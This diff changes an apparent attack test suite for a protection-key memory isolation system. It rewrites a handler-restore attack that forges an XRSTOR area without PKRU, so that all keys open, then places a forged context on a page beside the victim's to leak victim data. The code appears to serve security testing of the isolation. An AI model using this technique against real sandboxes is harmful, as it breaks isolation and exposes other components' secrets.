@@ -118,18 +118,34 @@ static void handler_jump(const unsigned long *n)
 	enter_handler(n[0] | 1UL << 63);
 }
 
-/* numbers: the handler's XRSTOR. The area says: PKRU is to be restored, and is not there. */
+/*
+ * numbers: the handler's XRSTOR. The area says that PKRU is to be restored, and does not hold it: all
+ * keys are open then, while the handler loads the registers of whom it interrupted, as it believes. The
+ * context ends on a page of the attacker's, but begins on the victim's that lies before it.
+ */
 static void handler_restore(const unsigned long *n)
 {
-	const char *secret = victim_data();
-	struct context *context = forge();
+	forge();
 	area.present = 0;
-	struct registers all = {
-		.rax = 0x2ff, .rdx = 0, .rsi = (unsigned long)&area, .rdi = (unsigned long)&area,
-		.rbx = (unsigned long)context, .rsp = (unsigned long)(stack + 384),
-	};
-	jump(n[0], &all);
-	read_secret(secret);
+	for (int attempt = 0; attempt < 16; attempt++) {
+		char *others = victim_grow();
+		char *mine = cubicle_pages_alloc(1);
+		if (mine != others + PAGE)
+			continue;
+		struct context *context =
+			(struct context *)(mine - __builtin_offsetof(struct context, rip));
+		context->rip = (unsigned long)landing;
+		context->rflags = 0x202;
+		struct registers all = {
+			.rax = 0x2ff, .rdx = 0, .rsi = (unsigned long)&area, .rdi = (unsigned long)&area,
+			.rbx = (unsigned long)context, .rsp = (unsigned long)(stack + 384),
+		};
+		unsigned long word = jump(n[0], &all);
+		if (!search((const volatile char *)&word, sizeof word))
+			say("landed\n");
+		return;
+	}
+	say("no page lies beside the victim's\n");
 }
 
 const struct attack signal_attacks[] = {
